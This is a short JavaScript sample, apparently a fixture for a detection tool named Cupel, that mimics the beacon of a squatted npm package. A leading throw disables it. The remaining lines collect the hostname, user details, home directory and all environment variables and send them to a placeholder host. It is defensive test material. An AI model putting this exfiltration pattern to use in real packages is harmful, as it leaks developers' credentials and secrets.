// Example for Cupel: looks like the beacon of a squatted name. Never runs.
throw new Error("an example: never run");
const os = require("os");
const https = require("https");
const about = { host: os.hostname(), user: os.userInfo(), home: os.homedir() };
const body = JSON.stringify(about) + JSON.stringify(process.env);
https.request("https://example.invalid/placeholder").end(body);
